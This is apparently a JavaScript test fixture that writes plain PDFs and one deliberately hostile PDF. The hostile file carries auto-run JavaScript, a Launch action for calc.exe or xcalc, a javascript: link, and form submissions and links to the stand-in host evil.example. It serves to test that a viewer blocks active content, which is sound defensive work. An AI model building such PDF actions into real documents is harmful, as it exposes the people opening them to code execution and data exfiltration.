// Write small valid PDFs for the tests: pages of text lines (Helvetica), and a hostile
// one whose catalog, page and links carry JavaScript, a launch action and links off
// the machine.
import { writeFileSync } from "node:fs";

function esc(s) {
  return s.replace(/\\/g, "\\\\").replace(/\(/g, "\\(").replace(/\)/g, "\\)");
}

/** pages: array of arrays of lines (a line is a string, or a table row: an array of
 *  [x, text] cells placed on its baseline). `extra` adds to the file: `catalog` (entries of
 *  the catalog dictionary), `page` (entries of every page dictionary), `objects` (more
 *  objects, numbered after the pages' own; their numbers are `first`, `first + 1`, …
 *  where `first` is passed to each function). */
export function makePdf(path, pages, extra = {}) {
  const objs = [];
  const add = (body) => { objs.push(body); return objs.length; };
  const catalog = add(null);
  const pagesObj = add(null);
  const font = add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>");
  // Object numbers of the extra objects, known before the pages are written.
  const first = 4 + 2 * pages.length;
  const kids = [];
  for (const lines of pages) {
    if (!Array.isArray(lines)) throw new TypeError(`makePdf: a page is an array of lines, not ${JSON.stringify(lines)}`);
    const ops = ["BT", "/F1 11 Tf", "14 TL", "72 740 Td"];
    lines.forEach((l, i) => {
      if (typeof l === "string") return ops.push(`(${esc(l)}) Tj T*`);
      // A row of cells: [x, text] pairs on the line's baseline, then the next line.
      const y = 740 - 14 * i;
      for (const [x, t] of l) ops.push(`1 0 0 1 ${x} ${y} Tm (${esc(t)}) Tj`);
      ops.push(`1 0 0 1 72 ${y - 14} Tm`);
    });
    ops.push("ET");
    const stream = ops.join("\n");
    const content = add(`<< /Length ${Buffer.byteLength(stream, "latin1")} >>\nstream\n${stream}\nendstream`);
    const more = extra.page ? extra.page(first) : "";
    kids.push(add(`<< /Type /Page /Parent ${pagesObj} 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R ${more}>>`));
  }
  for (const body of extra.objects ? extra.objects(first) : []) add(body);
  objs[catalog - 1] = `<< /Type /Catalog /Pages ${pagesObj} 0 R ${extra.catalog ? extra.catalog(first) : ""}>>`;
  objs[pagesObj - 1] = `<< /Type /Pages /Kids [${kids.map((k) => `${k} 0 R`).join(" ")}] /Count ${kids.length} >>`;
  let out = "%PDF-1.4\n";
  const offsets = [];
  objs.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, "latin1"));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, "latin1");
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, "0")} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root ${catalog} 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  writeFileSync(path, Buffer.from(out, "latin1"));
}

/** The hostile PDF's text: a sentence to search for, then a line under each link. */
export const HOSTILE_LINES = [
  "The marmoset lantern glows over the harbour at night.",
  "This line is a launch link to a program.",
  "This line is a link that runs JavaScript.",
  "This line links to a remote server.",
];

/** A one-page PDF that tries to run code: JavaScript when opened (the catalog's
 *  OpenAction, its JavaScript name tree, the page's open action), and links over the
 *  text that run JavaScript, launch a program, and go to `javascript:` and remote
 *  URLs. `lines` is its text. Each script would set `window.__pwned` and alert. */
export function makeHostilePdf(path, lines = HOSTILE_LINES) {
  const js = (n) => `<< /S /JavaScript /JS (window.__pwned=${n}; app.alert\\(${n}\\); this.submitForm\\(\\{cURL: "http://evil.example/${n}"\\}\\)) >>`;
  const link = (y, action) => `<< /Type /Annot /Subtype /Link /Rect [60 ${y} 560 ${y + 14}] /Border [0 0 0] /A ${action} >>`;
  makePdf(path, [lines], {
    catalog: (f) => `/OpenAction ${f} 0 R /Names << /JavaScript << /Names [(boot) ${f + 1} 0 R] >> >> /AA << /WC ${f + 2} 0 R >> `,
    page: (f) => `/AA << /O ${f + 3} 0 R >> /Annots [${f + 4} 0 R ${f + 5} 0 R ${f + 6} 0 R ${f + 7} 0 R] `,
    objects: () => [
      js(1), js(2), js(3), js(4),
      link(740 - 4, "<< /S /URI /URI (javascript:window.__pwned=5;alert\\(5\\)) >>"),
      link(740 - 18, "<< /S /Launch /F (/usr/bin/xcalc) /Win << /F (calc.exe) >> >>"),
      link(740 - 32, js(6)),
      link(740 - 46, "<< /S /URI /URI (http://evil.example/exfiltrate) >>"),
    ],
  });
}
